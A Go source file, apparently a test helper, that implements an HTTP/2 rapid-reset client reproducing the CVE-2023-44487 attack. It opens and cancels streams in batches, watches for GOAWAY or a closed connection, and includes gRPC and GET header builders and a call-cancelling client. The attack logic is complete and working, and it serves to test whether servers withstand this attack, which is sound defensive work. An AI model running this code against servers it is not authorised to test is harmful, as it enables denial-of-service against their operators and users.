// Package resettest is an HTTP/2 rapid-reset client, for tests: it opens
// streams and resets them at once, as the attack of CVE-2023-44487 does,
// with golang.org/x/net/http2's Framer.
package resettest

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Result is what an Attack saw.
type Result struct {
	// Pairs is the number of HEADERS and RST_STREAM pairs the server had
	// read when the attack ended: all that were sent, but for the last
	// batch when the server ended the connection.
	Pairs int
	// GoAway says a GOAWAY frame came; Closed, that the connection closed.
	GoAway, Closed bool
}

func (r Result) String() string {
	return fmt.Sprintf("%d pairs read, GOAWAY %v, closed %v", r.Pairs, r.GoAway, r.Closed)
}

// batch is the pairs sent between two barriers.
const batch = 100

// Attack writes the client preface on conn, then up to max pairs of a
// HEADERS frame that opens a stream with fields and a RST_STREAM (CANCEL)
// of it, in batches of 100, each followed by an empty SETTINGS frame
// whose ACK says the server has read the batch (a PING would count
// against keepalive policies). It stops at the first GOAWAY, when the
// connection closes, after max pairs, or after d, and closes conn.
// endStream sets END_STREAM on the HEADERS frames (a request without a
// body).
func Attack(conn net.Conn, fields []hpack.HeaderField, endStream bool, max int, d time.Duration) (Result, error) {
	defer conn.Close()
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, f := range fields {
		if err := enc.WriteField(f); err != nil {
			return Result{}, err
		}
	}
	bw := bufio.NewWriterSize(conn, 64<<10)
	fr := http2.NewFramer(bw, conn)
	var wmu sync.Mutex
	write := func(f func() error) error {
		wmu.Lock()
		defer wmu.Unlock()
		if err := f(); err != nil {
			return err
		}
		return bw.Flush()
	}
	// The preface and SETTINGS go first, before the reader may answer the
	// server's SETTINGS: an ACK ahead of the preface is no HTTP/2.
	err := write(func() error {
		if _, err := bw.WriteString(http2.ClientPreface); err != nil {
			return err
		}
		return fr.WriteSettings()
	})
	if err != nil {
		return Result{}, err
	}
	acks := make(chan struct{}, 1)
	goAway := make(chan struct{})
	closed := make(chan struct{})
	go func() {
		defer close(closed)
		sawGoAway := false
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				return
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					_ = write(fr.WriteSettingsAck)
					continue
				}
				select {
				case acks <- struct{}{}:
				default:
				}
			case *http2.GoAwayFrame:
				if !sawGoAway {
					sawGoAway = true
					close(goAway)
				}
			}
		}
	}()
	wait := func() (Result, bool) {
		select {
		case <-acks:
			return Result{}, false
		case <-goAway:
			return Result{GoAway: true}, true
		case <-closed:
			return Result{Closed: true}, true
		case <-time.After(10 * time.Second):
			return Result{}, true
		}
	}
	if r, end := wait(); end {
		return r, errors.New("no ACK of the first SETTINGS")
	}
	end := time.Now().Add(d)
	id := uint32(1)
	pairs := 0
	for pairs < max && time.Now().Before(end) {
		err := write(func() error {
			for range batch {
				if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true, EndStream: endStream}); err != nil {
					return err
				}
				if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
					return err
				}
				id += 2
			}
			return fr.WriteSettings()
		})
		if err != nil {
			// The server closed the connection under the write.
			<-closed
			return Result{Pairs: pairs, Closed: true, GoAway: isClosed(goAway)}, nil
		}
		r, stop := wait()
		if stop {
			r.Pairs = pairs
			r.GoAway = r.GoAway || isClosed(goAway)
			return r, nil
		}
		pairs += batch
	}
	return Result{Pairs: pairs, GoAway: isClosed(goAway)}, nil
}

func isClosed(c chan struct{}) bool {
	select {
	case <-c:
		return true
	default:
		return false
	}
}

// GRPCFields are the headers of a gRPC call to method (a full name,
// "/grpc.health.v1.Health/Check") at authority.
func GRPCFields(authority, method string) []hpack.HeaderField {
	return []hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: method},
		{Name: ":authority", Value: authority}, {Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	}
}

// GetFields are the headers of a GET of path at authority over HTTPS.
func GetFields(authority, path string) []hpack.HeaderField {
	return []hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":path", Value: path}, {Name: ":authority", Value: authority},
	}
}

// CancellingClient makes n calls, concurrency at a time, as a client
// that gives up on some of its calls does: every third is cancelled within
// a millisecond of its start (after 0 to 990 µs, in turn), most often while
// the server still runs it. It returns how many of the others failed.
func CancellingClient(n, concurrency int, call func(ctx context.Context) error) (failed int) {
	var (
		wg  sync.WaitGroup
		bad atomic.Int64
		sem = make(chan struct{}, concurrency)
	)
	for i := range n {
		sem <- struct{}{}
		wg.Go(func() {
			defer func() { <-sem }()
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			if i%3 == 0 {
				time.AfterFunc(time.Duration(i%100)*10*time.Microsecond, cancel)
				_ = call(ctx)
				return
			}
			if call(ctx) != nil {
				bad.Add(1)
			}
		})
	}
	wg.Wait()
	return int(bad.Load())
}
